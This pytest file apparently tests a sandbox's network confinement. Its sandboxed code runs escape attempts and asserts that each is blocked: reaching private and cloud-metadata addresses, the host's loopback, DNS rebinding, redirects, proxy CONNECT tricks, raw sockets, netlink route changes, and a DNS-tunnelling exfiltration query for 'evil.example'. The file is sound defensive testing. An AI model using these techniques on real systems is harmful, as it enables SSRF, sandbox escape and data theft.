"""Attacks on the network of a run: past the relay, past the rules, past the proxy.

The world's servers really listen and the host's loopback really answers, so that a way out would be
seen: `reached` is what their connections say.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator

import pytest

from sandboxd.model import NetworkMode
from tests.confined import Ground, make_ground
from tests.egress.running import lines, run
from tests.egress.world import OTHER, PUBLIC, PUBLIC_IPV6, World, http_server, tcp_server

WAYS = [
    ("namespaces", NetworkMode.OPEN),
    ("namespaces", NetworkMode.ALLOWLIST),
    ("bubblewrap", NetworkMode.OPEN),
    ("bubblewrap", NetworkMode.ALLOWLIST),
]


@pytest.fixture
def ground() -> Iterator[Ground]:
    yield from make_ground()


@pytest.fixture
def world() -> World:
    return World()


PRIVATE = (
    "10.0.0.1",
    "100.64.0.1",
    "169.254.169.254",
    "172.16.0.1",
    "192.168.1.1",
    "fd00::9",
    "fe80::9",
    "::ffff:10.0.0.1",
    "::ffff:169.254.169.254",
)


@pytest.mark.parametrize(("tier", "mode"), WAYS)
def test_private_addresses_fail_at_once_and_are_told(
    ground: Ground, world: World, tier: str, mode: NetworkMode
) -> None:
    """connect(2) itself fails, not the first use of the connection."""
    code = f"""
for address in {PRIVATE}:
    begun = time.monotonic()
    s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET); s.settimeout(5)
    scope = 1 if address.startswith("fe80") else 0
    place = (address, 80, 0, scope) if ":" in address else (address, 80)
    try:
        s.connect(place); s.recv(1); print("ANSWERED")
    except OSError as error:
        print(error.errno, time.monotonic() - begun < 2)
"""
    carried = run(ground, world, code, mode, tier=tier)
    assert lines(carried) == ["113 True"] * len(PRIVATE)  # EHOSTUNREACH
    assert {denial.rule for denial in carried.denials} == {"network.private"}
    hosts = {(denial.host or "").removesuffix(":80").strip("[]") for denial in carried.denials}
    assert hosts == {address.removeprefix("::ffff:") for address in PRIVATE}
    assert world.dialled == []


@pytest.mark.parametrize(("tier", "mode"), WAYS)
def test_private_address_stays_refused_when_something_else_is_named(
    ground: Ground, world: World, tier: str, mode: NetworkMode
) -> None:
    """With a host named the routes leave the judgement to the relay: a reset, not a way out."""
    code = """
for address in ("10.0.0.1", "169.254.169.254", "::ffff:192.168.1.1", "fd00::9"):
    print(attempt(lambda: fetch(address)))
"""
    carried = run(ground, world, code, mode, tier=tier, allow=("good.example", "0.0.0.0/0", "::/0"))
    assert lines(carried) == ["ConnectionResetError"] * 4
    assert {denial.rule for denial in carried.denials} == {"network.private"}
    assert world.dialled == []


@pytest.mark.parametrize(("tier", "mode"), WAYS)
def test_loopback_of_the_host_is_not_reached(
    ground: Ground, world: World, tier: str, mode: NetworkMode
) -> None:
    reached: list[bytes] = []
    with tcp_server(lambda connection: reached.append(connection.recv(9))) as port:
        code = f"""
for address in ("127.0.0.1", "127.0.0.2", "0.0.0.0", "localhost", "::1", "::ffff:127.0.0.1"):
    print(attempt(lambda: fetch(address, {port})))
"""
        answers = lines(run(ground, world, code, mode, tier=tier))
    assert answers == ["ConnectionRefusedError"] * 6
    assert reached == []


@pytest.mark.parametrize(("tier", "mode"), WAYS)
def test_the_relays_own_listener_is_no_way_to_the_hosts_loopback(
    ground: Ground, world: World, tier: str, mode: NetworkMode
) -> None:
    """Its port can be guessed or found: there it is the name server."""
    code = """
found = []
for name in ("/proc/net/tcp", "/proc/net/tcp6"):
    for line in open(name).readlines()[1:]:
        local, state = line.split()[1], line.split()[3]
        if state == "0A": found.append(int(local.split(":")[1], 16))
print(sorted(set(found) - {3128}))
for host in ("127.0.0.1", "::1", "127.0.0.9"):
    with socket.create_connection((host, 53), 5) as s:
        s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"); s.shutdown(socket.SHUT_WR)
        print(attempt(lambda: s.recv(100)))
"""
    carried = run(ground, world, code, mode, tier=tier)
    assert lines(carried) == ["[53]"] + ["b''"] * 3
    assert world.dialled == []


@pytest.mark.parametrize(("tier", "mode"), WAYS)
def test_an_own_address_of_the_host_is_refused(
    ground: Ground, world: World, tier: str, mode: NetworkMode
) -> None:
    world.own = {PUBLIC, PUBLIC_IPV6}
    code = f"""
print(attempt(lambda: fetch("{PUBLIC}")))
print(attempt(lambda: fetch("{PUBLIC_IPV6}")))
"""
    carried = run(ground, world, code, mode, tier=tier, allow=("0.0.0.0/0", "::/0"))
    assert lines(carried) == ["ConnectionResetError"] * 2
    assert {denial.rule for denial in carried.denials} == {"network.private"}
    assert world.dialled == []


@pytest.mark.parametrize(("tier", "mode"), WAYS)
def test_a_name_that_leads_inside_is_refused(
    ground: Ground, world: World, tier: str, mode: NetworkMode
) -> None:
    world.hosts = {"rebind.example": ["169.254.169.254"], "ten.example": ["10.0.0.1"]}
    code = """
for name in ("rebind.example", "ten.example"):
    print(attempt(lambda: fetch(name)))
"""
    carried = run(ground, world, code, mode, tier=tier, allow=("*.example",))
    assert lines(carried) == ["ConnectionResetError"] * 2
    assert carried.denied == [
        ("rebind.example (169.254.169.254):80", "network.private"),
        ("ten.example (10.0.0.1):80", "network.private"),
    ]
    assert world.dialled == []


def test_a_redirect_to_a_private_address_is_not_followed_out(ground: Ground, world: World) -> None:
    import http.server

    class Redirecting(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(302)
            self.send_header("Location", "http://169.254.169.254/latest/")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Nothing on stderr."""

    world.hosts = {"good.example": [PUBLIC]}
    with http_server(Redirecting) as port:
        world.servers = {(PUBLIC, 80): port}
        for proxy in ({}, {"http": "http://127.0.0.1:3128"}):
            code = f"""
import urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler({proxy!r}))
print(attempt(lambda: opener.open("http://good.example/", timeout=5)))
"""
            carried = run(ground, world, code, NetworkMode.ALLOWLIST, allow=("good.example",))
            assert lines(carried)[0] in ("URLError", "HTTPError", "ConnectionResetError")
            assert carried.denied == [("169.254.169.254:80", "network.private")]
    assert set(world.dialled) == {(PUBLIC, 80)}


def test_an_address_that_was_not_named_gets_nothing_in_allowlist(
    ground: Ground, world: World
) -> None:
    world.hosts = {"good.example": [PUBLIC]}
    with http_server() as port:
        world.servers = {(OTHER, 80): port, (PUBLIC_IPV6, 80): port, (PUBLIC, 8080): port}
        code = f"""
socket.getaddrinfo("good.example", 80)
print(attempt(lambda: fetch("{OTHER}")))
print(attempt(lambda: fetch("::ffff:{OTHER}")))
print(attempt(lambda: fetch("{PUBLIC_IPV6}")))
print(attempt(lambda: fetch("{PUBLIC}", 8080)))
"""
        carried = run(ground, world, code, NetworkMode.ALLOWLIST, allow=("good.example:80",))
    assert lines(carried) == ["ConnectionResetError"] * 4
    assert len(carried.denials) == 3  # the mapped form is the same host
    assert world.dialled == []


def test_questions_about_other_names_carry_nothing_out_of_an_allowlist(
    ground: Ground, world: World
) -> None:
    """Neither the name, nor a record kind, nor what stands beside the question."""
    asked: list[bytes] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as upstream:
        upstream.bind(("127.0.0.1", 0))
        upstream.settimeout(0.1)
        world.upstream = [("127.0.0.1", upstream.getsockname()[1])]
        world.hosts = {"good.example": [PUBLIC]}
        stop = threading.Event()

        def listen() -> None:
            while not stop.is_set():
                try:
                    asked.append(upstream.recv(4096))
                except OSError:
                    continue

        listening = threading.Thread(target=listen)
        listening.start()
        code = """
def ask(labels, kind, server="127.0.0.1", extra=b""):
    name = b"".join(bytes([len(l)]) + l for l in labels) + b"\\0"
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
    u.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0" + bytes([0, 1 if extra else 0]) + name + bytes([0, kind, 0, 1]) + extra, (server, 53))
    return u.recv(512)[3] & 15
print(ask([b"c2VjcmV0", b"evil", b"example"], 1), ask([b"c2VjcmV0", b"evil", b"example"], 16, "8.8.8.8"))
print(ask([b"secret", b"good", b"example"], 1), ask([b"good", b"example"], 16), ask([b"good", b"example"], 1, extra=b"\\0\\0\\x29\\4\\0\\0\\0\\0\\0\\0\\6secret"))
"""
        carried = run(ground, world, code, NetworkMode.ALLOWLIST, allow=("good.example",))
        stop.set()
        listening.join()
    assert lines(carried) == ["3 3", "3 0 0"]
    assert asked == []
    assert world.looked_up == ["good.example"]


@pytest.mark.parametrize(("tier", "mode"), WAYS)
def test_datagrams_and_raw_sockets_do_not_get_out(
    ground: Ground, world: World, tier: str, mode: NetworkMode
) -> None:
    code = f"""
def datagram(address, port):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
    u.connect((address, port)); u.send(b"x")
    return u.recv(10)
print(attempt(lambda: datagram("{PUBLIC}", 443)), attempt(lambda: datagram("{PUBLIC}", 123)))
print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)))
print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)))
print(attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)))
"""
    answers = lines(run(ground, world, code, mode, tier=tier))
    assert answers == ["ConnectionRefusedError ConnectionRefusedError"] + ["PermissionError"] * 3


@pytest.mark.parametrize(("tier", "mode"), WAYS)
def test_rules_and_routes_cannot_be_changed(
    ground: Ground, world: World, tier: str, mode: NetworkMode
) -> None:
    code = """
import struct
def answer(protocol, *messages):
    s = socket.socket(16, socket.SOCK_RAW, protocol); s.settimeout(3)
    s.send(b"".join(struct.pack("=IHHII", 16 + len(b), k, 5, 1, 0) + b for k, b in messages))
    return -struct.unpack_from("=i", s.recv(4096), 16)[0]
print(answer(0, (24, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0))))
print(answer(0, (25, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 3, 254, 2, 0))))
print(answer(0, (16, struct.pack("=BxHiII", 0, 0, 1, 0, 1))))
print(answer(12, (16, struct.pack("!BBH", 0, 0, 10)), (0xA02, struct.pack("!BBH", 2, 0, 0)), (17, struct.pack("!BBH", 0, 0, 10))))
s = socket.socket()
print(attempt(lambda: s.setsockopt(0, 19, 1)))
"""
    answers = lines(run(ground, world, code, mode, tier=tier))
    assert answers == ["1", "1", "1", "1", "PermissionError"]  # EPERM


def test_the_proxy_does_not_lead_to_the_hosts_loopback(ground: Ground, world: World) -> None:
    reached: list[bytes] = []
    world.hosts = {"localhost": ["127.0.0.1"], "me.example": ["127.0.0.1"]}
    with tcp_server(lambda connection: reached.append(connection.recv(9))) as port:
        code = f"""
for target in ("127.0.0.1", "localhost", "me.example", "[::ffff:127.0.0.1]", "0x7f.1"):
    s = socket.create_connection(("127.0.0.1", 3128), 5)
    s.sendall(f"CONNECT {{target}}:{port} HTTP/1.1\\r\\n\\r\\n".encode())
    print(s.recv(12).decode())
"""
        carried = run(ground, world, code, NetworkMode.ALLOWLIST, allow=("*",))
    assert lines(carried) == ["HTTP/1.1 403"] * 5
    assert reached == []
    assert world.dialled == []
